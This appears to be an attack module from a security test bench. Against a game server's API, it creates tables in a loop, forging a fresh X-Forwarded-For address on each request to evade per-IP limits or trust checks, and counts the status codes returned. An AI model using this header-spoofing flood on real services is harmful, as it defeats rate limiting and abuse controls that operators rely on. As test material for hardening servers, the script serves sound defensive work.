"""A new address in X-Forwarded-For with every table that is opened, in one line or two.

From this machine itself, as everything comes that a careless proxy passes on: servers like to believe that one.
"""

from dataclasses import replace

from bench.attacks.harness import Told, Victim

LONG = 500


async def attack(victim: Victim, most: int) -> Told:
    told = victim.told
    async with replace(victim, source="127.0.0.1").client() as http:
        game = (await http.get("/api/games")).json()["games"][0]["name"]
        for number in range(most):
            forged = f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}"
            lines = [("X-Forwarded-For", forged), ("X-Forwarded-For", f"2001:db8::{number:x}")]
            answer = await http.post("/api/tables", json={"game": game, "seats": 2}, headers=lines[: 1 + number % 2])
            told.sent += 1
            told.answers[str(answer.status_code)] += 1
    return told
